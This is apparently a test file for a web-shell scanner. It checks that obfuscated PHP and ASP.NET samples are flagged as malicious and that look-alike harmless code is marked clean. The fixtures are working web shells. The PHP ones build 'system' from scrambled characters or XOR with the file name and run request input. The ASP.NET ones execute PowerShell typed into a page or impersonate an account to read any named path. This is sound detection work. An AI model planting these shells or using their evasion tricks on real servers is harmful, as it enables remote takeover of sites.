import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createScanner } from './scanner.js';

// Techniques a session-23 measurement (real shells from repositories no earlier session used, kept
// outside the project) found missed, each written again by us in a few lines. The PHP samples are run
// by PHP where it is installed (they print a marker), so each is a working shell and not a look-alike.
const scanner = createScanner({});
const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
const php = spawnSync('php', ['-v'], { encoding: 'utf8' }).status === 0;
const MARK = `s23run${process.pid}`;

function runs(src: string): boolean {
  const prelude = `$_GET = ['c' => 'echo ${MARK}']; $_POST = $_GET; $_REQUEST = $_GET;`;
  const body = src.replace(/^<\?php\s*/, '').replace(/\?>\s*$/, '');
  const r = spawnSync('php', ['-d', 'display_errors=stderr', '-r', `${prelude}\n${body}`], { encoding: 'utf8', timeout: 10_000 });
  return r.stdout.includes(MARK);
}

describe('scan: PHP techniques of session 23, samples of our own', () => {
  // 'qsytemz': s at 1, y at 2, t at 3, e at 4, m at 5
  const cases: { name: string; src: string }[] = [
    {
      name: 'a function name picked out of a scrambled string one character at a time, given the request through a getter and a method',
      src: `<?php class Pick { function go($arg) { $k = 'qsytemz'; $fn = $k[1] . $k[2] . $k[1] . $k[3] . $k[4] . $k[5]; return $fn($arg); } } function field($n) { return isset($_POST[$n]) ? $_POST[$n] : null; } $p = new Pick(); $p->go(field('c'));`,
    },
    {
      name: 'the same with quoted positions and the request read directly',
      src: `<?php $k = 'qsytemz'; $fn = $k['1'] . $k['2'] . $k['1'] . $k['3'] . $k['4'] . $k['5']; $fn($_GET['c']);`,
    },
  ];
  for (const s of cases) {
    it(`malicious: ${s.name}`, () => {
      if (php) assert.ok(runs(s.src), `the sample does not run under PHP: ${s.src}`);
      const r = scan(s.src);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  // The function's name XORed out of packed bytes with a key taken from the file's own name: in a file
  // named x.php, 0b010b0c1d15 ^ 'xxxxxx' is 'system' (the name is in no byte of the file, and the key
  // not in its text). Not run here: PHP's -r has no file name.
  const xor = `$k = str_repeat(substr(__FILE__, -5, -4), 6); $f = pack('H*', '0b010b0c1d15') ^ $k;`;
  for (const [name, src] of [
    ['a name XORed at run time, called by array_intersect_ukey on request keys', `<?php ${xor} array_intersect_ukey(array($_REQUEST['c'] => 1), array(1), $f);`],
    ['the same through call_user_func', `<?php ${xor} call_user_func($f, $_POST['c']);`],
    ['the same called directly', `<?php ${xor} $f($_GET['c']);`],
    ['a name decoded at run time from a stored value, mapped over request input', `<?php $f = base64_decode($GLOBALS['cfg']['h']); array_map($f, array($_GET['c']));`],
  ] as const) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, '/www/x.php');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('clean: bytes XORed for a checksum, a comparison function kept in a variable, request input sorted', () => {
    for (const src of [
      `<?php $k = str_repeat('k', 6); $t = pack('H*', '0b010b0c1d15') ^ $k; echo bin2hex($t);`,
      `<?php $cmp = 'strcmp'; $list = (array) ($_POST['list'] ?? []); usort($list, $cmp); echo htmlspecialchars(implode(',', $list));`,
      `<?php $mask = $_COOKIE['m'] ^ 'abc'; echo strlen($mask);`,
    ]) assert.equal(scan(src).verdict, 'clean', src);
  });
  it('clean: characters picked by position for a date, or for a name called with a fixed value', () => {
    for (const src of [
      `<?php $d = (string) ($_GET['d'] ?? '20240131'); $y = $d[0] . $d[1] . $d[2] . $d[3]; $m = $d[4] . $d[5]; echo htmlspecialchars("$y-$m");`,
      `<?php $k = 'abcdefgh'; $fn = $k[7] . $k[0] . $k[1] . $k[3]; if (function_exists($fn)) { echo $fn('fixed'); }`,
    ]) assert.equal(scan(src).verdict, 'clean', src);
  });
});

describe('scan: ASP.NET shapes of session 23, samples of our own', () => {
  it('malicious: PowerShell text from a TextBox, trimmed and handed to a helper that builds the pipeline', () => {
    const src = `<%@ Page Language="C#" %><%@ Import Namespace="System.Management.Automation.Runspaces" %><script runat="server">
static string RunPs(string text) { Runspace rs = RunspaceFactory.CreateRunspace(); rs.Open(); Pipeline pl = rs.CreatePipeline(); pl.Commands.AddScript(text); pl.Commands.Add("Out-String"); var sb = new StringBuilder(); foreach (var o in pl.Invoke()) sb.AppendLine(o.ToString()); rs.Close(); return sb.ToString(); }
void Go(object s, EventArgs e) { if (Cmd.Text.Length > 0) { Result.Text = RunPs(Cmd.Text.Trim()); } }
</script><form runat="server"><asp:TextBox ID="Cmd" runat="server"/><asp:Button OnClick="Go" runat="server"/><asp:TextBox ID="Result" runat="server"/></form>`;
    const r = scan(src, '/www/ps.aspx');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  });
  it('malicious: a page logging on as another account and reading or listing the path a TextBox names', () => {
    const src = `<%@ Page Language="C#" %><%@ Import Namespace="System.Runtime.InteropServices" %><%@ Import Namespace="System.Security.Principal" %><script runat="server">
[DllImport("advapi32.dll")] static extern int LogonUserA(string u, string d, string p, int t, int v, ref IntPtr h);
[DllImport("advapi32.dll")] static extern int DuplicateToken(IntPtr h, int l, ref IntPtr n);
void Go(object s, EventArgs e) { IntPtr t = IntPtr.Zero, d = IntPtr.Zero; if (LogonUserA(User.Text, ".", Pass.Text, 2, 0, ref t) != 0 && DuplicateToken(t, 2, ref d) != 0) { var ctx = new WindowsIdentity(d).Impersonate(); string[] w = What.Text.Split(' '); if (w[0] == "ls") { foreach (var f in System.IO.Directory.GetFiles(w[1])) Out.Text += f + "<br/>"; } else { Out.Text = System.IO.File.ReadAllText(w[1]); } ctx.Undo(); } }
</script>`;
    const r = scan(src, '/www/as.aspx');
    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
  });
  it('not malicious: an intranet page impersonating a user to read one fixed report, or running a fixed PowerShell script', () => {
    const report = `<%@ Page Language="C#" %><script runat="server">
[DllImport("advapi32.dll")] static extern int LogonUserA(string u, string d, string p, int t, int v, ref IntPtr h);
void Page_Load(object s, EventArgs e) { IntPtr t = IntPtr.Zero; if (LogonUserA(User.Text, "CORP", Pass.Text, 2, 0, ref t) != 0) { var ctx = new System.Security.Principal.WindowsIdentity(t).Impersonate(); Out.Text = System.IO.File.ReadAllText(Server.MapPath("~/App_Data/report.txt")); ctx.Undo(); } }
</script>`;
    assert.notEqual(scan(report, '/www/report.aspx').verdict, 'malicious');
    const status = `<%@ Page Language="C#" %><script runat="server">protected void Page_Load(object s, EventArgs e) { using (PowerShell ps = PowerShell.Create()) { ps.AddScript("Get-Service W3SVC | Out-String"); Status.Text = Server.HtmlEncode(ps.Invoke()[0].ToString()); Log(Status.Text); } }</script>`;
    assert.equal(scan(status, '/www/status.aspx').verdict, 'clean');
  });
});
